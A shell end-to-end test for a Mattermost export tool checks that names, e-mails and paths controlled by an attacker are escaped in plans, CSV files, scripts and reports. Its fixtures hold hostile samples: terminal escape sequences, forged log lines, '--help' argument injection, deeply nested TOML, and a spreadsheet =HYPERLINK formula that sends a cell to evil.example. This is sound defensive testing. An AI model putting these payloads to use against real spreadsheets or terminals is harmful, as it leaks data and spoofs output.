# Names, e-mails and paths that an export's author controls, through plan, apply, validate,
# verify-attachments and stats (docs/robustness.md, "Outputs escape what their readers
# interpret"): the plan holding them reads back in apply; USERS.csv cells cannot run as spreadsheet
# formulas; OUT.memberships.sh, run against a stub mmctl, passes every name as an argument after "--"
# and skips a team name the server cannot hold; no text report prints a raw control character or a
# forged report line; JSON reports stay valid JSON; and a crafted plan nested 50,000 deep is
# refused with exit 2 instead of overflowing the TOML reader's stack.
source "$E2E_LIB"

# The source file's own name holds an OSC title sequence and a forged report line.
SRC=$'src\e]0;pwned\a\nfake.jsonl:9: post.message: forged.jsonl'
cat > "$SRC" <<'JSONL'
{"type":"version","version":1}
{"type":"team","team":{"name":"sales","display_name":"Sales","type":"O"}}
{"type":"channel","channel":{"team":"sales","name":"deals","display_name":"Deals\r2 \u0000\u0007\u001b[2J\u007f\u009b 商談","type":"O"}}
{"type":"user","user":{"username":"eve","email":"=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")","teams":[{"name":"sales","roles":"team_user","channels":[{"name":"deals","roles":"channel_user"}]},{"name":"--help","roles":"team_user"}]}}
{"type":"user","user":{"username":"--help","email":"+help@example.com","teams":[{"name":"sales","roles":"team_user"}]}}
{"type":"user","user":{"username":"mallory","email":"mal\u001b[2J\nfake.jsonl:9: lory@example.com"}}
{"type":"post","post":{"team":"sales","channel":"deals","user":"mallory","message":"hi","create_at":1,"attachments":[{"path":"files/\u001b[2J.png"},{"path":"files/x\nfake.jsonl:9: post.message: forged.png"}]}}
JSONL
cat > target.jsonl <<'JSONL'
{"type":"version","version":1}
{"type":"team","team":{"name":"sales","display_name":"Sales","type":"O"}}
{"type":"channel","channel":{"team":"sales","name":"deals","display_name":"Deals","type":"O"}}
{"type":"user","user":{"username":"eve","email":"eve@example.com"}}
{"type":"user","user":{"username":"--help","email":"help@example.com"}}
{"type":"user","user":{"username":"mallory","email":"mallory@example.com"}}
JSONL
mkdir -p imp/data/files

# No raw control character (C0 but the line end, DEL, 8-bit or UTF-8 C1) and no forged line in
# what a command printed.
expect_clean_text() {
  for f in "$WORK/out" "$WORK/err"; do
    python3 - "$f" "$1" <<'PY' || fail "$1: raw control characters or a forged line in $f"
import sys
data = open(sys.argv[1], "rb").read()
text = data.decode("utf-8", errors="strict")
bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f]
forged = [l for l in text.split("\n") if l.startswith("fake.jsonl:")]
if bad or forged:
    print(sys.argv[2], "control:", [hex(ord(c)) for c in bad][:10], "forged:", forged[:3], file=sys.stderr)
    sys.exit(1)
PY
  done
}

got=0
"$MATTERMERGE" plan "$SRC" --target target.jsonl --out plan.toml --report report.json --notify-csv users.csv \
  --import-path imp --no-progress >"$WORK/out" 2>"$WORK/err" || got=$?
[ "$got" = 0 ] || [ "$got" = 1 ] || { cat "$WORK/err" >&2; fail "plan exited $got"; }
expect_clean_text plan
expect_grep '^plan: src\\x1b\]0;pwned\\x07\\nfake\.jsonl:9: post\.message: forged\.jsonl into target\.jsonl$' out
expect_grep 'files/\\x1b\[2J\.png' out
expect_grep 'files/x\\nfake\.jsonl:9: post\.message: forged\.png' out
python3 -c 'import json,sys; json.load(open("report.json"))' || fail "report.json is not JSON"

# The plan holds the display name escaped in its comment, and apply reads it back.
expect_grep '^# channel_name_clash: display names differ: "Deals\\x0d2 \\x00\\x07\\x1b\[2J\\x7f\\xc2\\x9b 商談" in the source' plan.toml
expect_grep '^source = "src\\u001B\]0;pwned\\u0007\\nfake\.jsonl:9: post\.message: forged\.jsonl"$' plan.toml
cp plan.toml out && : > err && expect_clean_text "plan.toml"
expect_exit 0 "$MATTERMERGE" apply "$SRC" --plan plan.toml --out out.jsonl --target target.jsonl --no-progress
expect_clean_text apply
expect_grep '"name":"src-deals","display_name":"Deals\\r2 \\u0000\\u0007\\u001b\[2J' out.jsonl

# USERS.csv: no cell starts with a formula character; every cell reads back as the value with a
# leading quote.
python3 - <<'PY' || fail "users.csv"
import csv
rows = list(csv.reader(open("users.csv", newline="")))
assert rows[0] == ["username", "email", "action", "target", "reason"], rows[0]
cells = {r[0]: r for r in rows[1:]}
assert cells["eve"][1] == "'=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")", cells["eve"]
assert cells["'--help"][1] == "'+help@example.com", cells
for r in rows:
    for c in r:
        assert not c or c[0] not in "=+-@\t\r", (r, c)
PY
expect_grep '^eve,"'"'"'=HYPERLINK\(""https://evil\.example/\?""&A3,""reset here""\)",' users.csv

# out.jsonl.memberships.sh against a stub mmctl that logs its arguments: "--" before the names, the team
# "--help" skipped (the server's team names are [a-z0-9-] and start with a letter or digit), and
# the script then exits 1 saying so.
mkdir bin
cat > bin/mmctl <<'SH'
#!/bin/sh
for a in "$@"; do printf '[%s]' "$a"; done >> "$MMCTL_LOG"
echo >> "$MMCTL_LOG"
SH
chmod +x bin/mmctl
expect_grep '^# skipped: user "eve", team "--help": not a valid team name$' out.jsonl.memberships.sh
expect_exit 1 env MMCTL_LOG="$WORK/mmctl.log" PATH="$WORK/bin:$PATH" sh out.jsonl.memberships.sh
expect_grep '^1 membership\(s\) not added' err
sort mmctl.log > got.log
cat > want.log <<'LOG'
[channel][users][add][--][sales:src-deals][eve]
[team][users][add][--][sales][--help]
[team][users][add][--][sales][eve]
LOG
diff -u want.log got.log || fail "mmctl received other arguments"

# validate, verify-attachments and stats print the names and paths escaped.
expect_exit 1 "$MATTERMERGE" validate "$SRC" --import-path imp --no-progress
expect_clean_text validate
expect_grep '^src\\x1b\]0;pwned\\x07\\nfake\.jsonl:9: post\.message: forged\.jsonl:7: post\.attachments\[0\]\.path: .*files/\\x1b\[2J\.png' out
expect_exit 1 "$MATTERMERGE" validate "$SRC" --import-path imp --json --no-progress
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["errors"]' "$WORK/out" || fail "validate --json"
expect_exit 1 "$MATTERMERGE" verify-attachments "$SRC" --import-path imp --no-progress
expect_clean_text verify-attachments
expect_grep '^src\\x1b\]0;pwned\\x07\\nfake\.jsonl:9: post\.message: forged\.jsonl:7: files/x\\nfake\.jsonl:9: post\.message: forged\.png: missing' out
expect_exit 1 "$MATTERMERGE" verify-attachments "$SRC" --import-path imp --json --no-progress
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert len(d["problems"]) == 2' "$WORK/out" || fail "verify-attachments --json"
expect_exit 0 "$MATTERMERGE" stats "$SRC" --no-progress
expect_clean_text stats
expect_exit 2 "$MATTERMERGE" stats "$SRC.gone" --no-progress
expect_clean_text "stats (error)"
expect_grep '^mattermerge: src\\x1b\]0;pwned\\x07\\nfake\.jsonl:9: post\.message: forged\.jsonl\.gone: ' err

# A crafted plan: a dotted key, arrays and inline tables nested far too deep are refused before the
# TOML reader sees them: exit 2, the file and line named, nothing written.
python3 -c "print('version = 1\n' + '.'.join(['a'] * 50000) + ' = 1')" > deep-key.toml
python3 -c "print('version = 1\nprefix = \"x\"\nx = ' + '[' * 50000 + ']' * 50000)" > deep-array.toml
python3 -c "print('version = 1\nprefix = \"x\"\n\nx = ' + '{a = ' * 50000 + '1' + '}' * 50000)" > deep-table.toml
for p in deep-key:2 deep-array:3 deep-table:4; do
  expect_exit 2 "$MATTERMERGE" apply "$SRC" --plan "${p%%:*}.toml" --out deep.jsonl --no-progress
  expect_grep "^mattermerge: ${p%%:*}\.toml:${p##*:}: toml: nested more than 64 levels deep" err
  [ ! -e deep.jsonl ] || fail "output written with ${p%%:*}.toml"
done
expect_no_leftovers .
echo "hostile_names: ok"
